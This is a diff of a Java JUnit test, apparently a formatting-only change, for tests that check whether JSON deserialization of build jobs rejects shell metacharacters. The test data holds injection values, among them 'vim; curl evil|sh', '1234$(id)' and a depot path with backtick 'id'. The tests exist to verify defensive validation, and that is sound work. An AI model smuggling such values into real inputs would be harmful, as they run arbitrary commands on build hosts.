@@ -8,9 +8,9 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.exc.ValueInstantiationException;
 import java.io.IOException;
 import java.io.InputStream;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.api.Test;
 
 class ContractRoundTripTest {
   private final ObjectMapper json = EventJson.newMapper();
@@ -39,7 +39,8 @@ class ContractRoundTripTest {
 
   @Test
   void refusesAnUnknownVersion() throws IOException {
-    String v2 = new String(read("delete-workspace.json")).replace("\"version\": 1", "\"version\": 2");
+    String v2 =
+        new String(read("delete-workspace.json")).replace("\"version\": 1", "\"version\": 2");
 
     assertThatThrownBy(() -> json.readValue(v2, HostCommand.class))
         .isInstanceOf(ValueInstantiationException.class)
@@ -60,11 +61,17 @@ class ContractRoundTripTest {
   void refusesABuildJobWhoseToolOrChangeCarriesShellCharacters() throws IOException {
     String job = new String(read("build-job.json"));
 
-    assertThatThrownBy(() -> json.readValue(job.replace("\"vim\"", "\"vim; curl evil|sh\""), BuildMessage.class))
+    assertThatThrownBy(
+            () ->
+                json.readValue(job.replace("\"vim\"", "\"vim; curl evil|sh\""), BuildMessage.class))
         .hasMessageContaining("tools is missing or malformed");
-    assertThatThrownBy(() -> json.readValue(job.replace("\"1234\"", "\"1234$(id)\""), BuildMessage.class))
+    assertThatThrownBy(
+            () -> json.readValue(job.replace("\"1234\"", "\"1234$(id)\""), BuildMessage.class))
         .hasMessageContaining("change is missing or malformed");
-    assertThatThrownBy(() -> json.readValue(job.replace("//depot/kernel/main/...", "//depot/`id`/..."), BuildMessage.class))
+    assertThatThrownBy(
+            () ->
+                json.readValue(
+                    job.replace("//depot/kernel/main/...", "//depot/`id`/..."), BuildMessage.class))
         .hasMessageContaining("source.depotPath is missing or malformed");
   }
 
